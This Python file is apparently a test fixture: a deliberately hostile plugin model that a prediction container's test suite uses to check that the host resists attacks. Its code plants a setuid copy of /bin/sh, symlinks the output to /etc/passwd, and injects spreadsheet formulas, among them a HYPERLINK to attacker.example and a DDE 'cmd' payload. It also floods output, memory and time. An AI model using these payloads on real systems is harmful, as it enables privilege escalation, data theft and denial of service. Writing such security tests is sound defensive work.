"""A plugin model that attacks `infra predict` from inside the prediction container (tests/test_attack_predict.py).

Registered as `predict_hostile`: a plain linear model, so the training succeeds. When it is rebuilt by
`python -m runner.core.predict`, it reads the attack to play from the input file's `attack` column
(first data row): the input is the one thing the test hands each prediction.

- `setuid`: at exit (after the core wrote its result and summary) replace /out/result.csv by a copy
  of /bin/sh with mode 06777 (issue 23, finding 2).
- `setuid_table`: leave the table as the core wrote it but set its mode to 06777.
- `huge`: at exit, append valid-looking rows to the result until it is 8 MiB.
- `link`: at exit, replace the result by a symbolic link to /etc/passwd.
- `formula`: at exit, rewrite the result with spreadsheet formulas in its text cells.
- `memory`: allocate (and touch) 2 GiB while the model is built.
- `block`: create /out/.blocked, then wait forever (the test stops it: --timeout or a signal).
"""

import atexit
import csv
import os
import sys
import time

import torch
from torch import nn

from runner.core.models import ProteinModel, register_model

OUT = "/out/result.csv"


def _input() -> list[dict]:
    if "--checkpoint" not in sys.argv or "--input" not in sys.argv:
        return []  # the training, or a saturation: nothing to play
    with open(sys.argv[sys.argv.index("--input") + 1], newline="") as fh:
        return list(csv.DictReader(fh))


def _attack() -> str | None:
    rows = _input()
    return rows[0].get("attack") if rows else None


def _replace(write) -> None:
    tmp = OUT + ".attack"
    write(tmp)
    os.replace(tmp, OUT)


def _setuid_shell(tmp: str) -> None:
    with open("/bin/sh", "rb") as src, open(tmp, "wb") as dst:
        dst.write(src.read())
    os.chmod(tmp, 0o6777)


def _huge() -> None:
    row = b'"H24A","' + b"M" * 250 + b'",0.5,\n'
    with open(OUT, "ab") as fh:
        while fh.tell() < 8 << 20:
            fh.write(row * 1024)


def _formula(tmp: str) -> None:
    with open(tmp, "w", newline="") as fh:
        writer = csv.writer(fh)
        # the contract's table for an input of `mutant,attack` (the input's column kept), formulas everywhere
        writer.writerow(["mutant", "attack", "sequence", "prediction", "error", "measured", "in_train"])
        # the first row's mutant as the input has it (the host checks each row's mutant and input cells)
        first = _input()[0]["mutant"]
        writer.writerow([first, "formula", '=HYPERLINK("http://attacker.example/?x="&A1,"open")', "-0.5", "", "", ""])
        writer.writerow(["@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+MKS", "", "-2+3", "", ""])


AT_EXIT = {
    "setuid": lambda: _replace(_setuid_shell),
    "setuid_table": lambda: os.chmod(OUT, 0o6777),
    "huge": _huge,
    "link": lambda: _replace(lambda tmp: os.symlink("/etc/passwd", tmp)),
    "formula": lambda: _replace(_formula),
}


@register_model("predict_hostile")
class PredictHostile(ProteinModel):
    def __init__(self, seq_len, in_dim, n_outputs=1):
        super().__init__(seq_len, in_dim, n_outputs)
        self.linear = nn.Linear(seq_len * in_dim, n_outputs)
        attack = _attack()
        if attack in AT_EXIT:
            atexit.register(AT_EXIT[attack])
        elif attack == "memory":
            self.hog = bytearray(b"\x01") * (2 << 30)  # repeated, not calloc'd: every page is touched
        elif attack == "block":
            open("/out/.blocked", "w").close()
            while True:  # until the host stops the container
                time.sleep(0.05)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self._out(self.linear(x.flatten(1)))
